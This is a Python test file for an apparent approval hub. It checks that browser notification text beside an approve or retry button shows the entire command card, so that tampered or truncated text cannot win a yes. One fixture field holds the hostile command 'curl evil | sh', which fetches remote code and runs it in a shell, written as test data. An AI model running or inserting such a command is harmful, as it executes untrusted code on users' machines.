"""Which text beside a button of a browser's notification lets a yes through."""

from msgspec.structs import replace

from hub.contract.effects import Effect
from hub.contract.events import ExecutionFailed, PredictionNew
from hub.contract.permission import CallField
from hub.contract.topics import DeviceAddress
from hub.contract.words import Status, Verb
from hub.io.api.shown_text import is_text_of
from hub.kit.phrase_files import all_phrases, phrases
from hub.kit.pushed_text import pushed_text
from tests.surfaces.shown import delivery, long_command

BROWSER = DeviceAddress(surface="browser", device="b1")
ASKED = long_command().permission
assert ASKED is not None
FIELD = CallField(name="frobnicate", value="curl evil | sh")
CARD = replace(
    long_command(),
    prompt="git push origin main",
    permission=replace(
        ASKED, text="git push origin main", effects=(Effect.LEAVES_THE_MACHINE,), marks=(), unknown_fields=(FIELD,)
    ),
)
FAILED = replace(CARD, status=Status.FAILED, outcome="2 tests failed")


def body(event: PredictionNew | ExecutionFailed) -> str:
    said = pushed_text(delivery(event), phrases("en"), BROWSER)
    assert said is not None
    return said.body


def test_all_of_an_open_card_stands_beside_a_yes_and_nothing_else() -> None:
    whole = body(PredictionNew(prediction=CARD))
    assert is_text_of(CARD, whole, all_phrases())
    lines = whole.split("\n")
    assert len(lines) > 1
    parts = ["\n".join(lines[:number] + lines[number + 1 :]) for number in range(len(lines))]
    for shown in (*parts, f"{whole}\nRefused already. Approve keeps it so.", f"{lines[0]}\nRefused already."):
        assert not is_text_of(CARD, shown, all_phrases())


def test_a_retry_stands_beside_what_failed_and_why() -> None:
    event = ExecutionFailed(
        card_id=CARD.id, execution_id="x1", kind="failed", error="2 tests failed", prediction=FAILED
    )
    whole = body(event)
    assert is_text_of(FAILED, whole, all_phrases(), Verb.RETRY)
    assert not is_text_of(FAILED, whole.replace("2 tests failed", "Retry keeps it so."), all_phrases(), Verb.RETRY)
    assert not is_text_of(FAILED, whole, all_phrases(), Verb.APPROVE)
    again = replace(FAILED, status=Status.CONFIRMED, outcome="")
    assert is_text_of(again, whole, all_phrases(), Verb.RETRY)  # the same press, once more
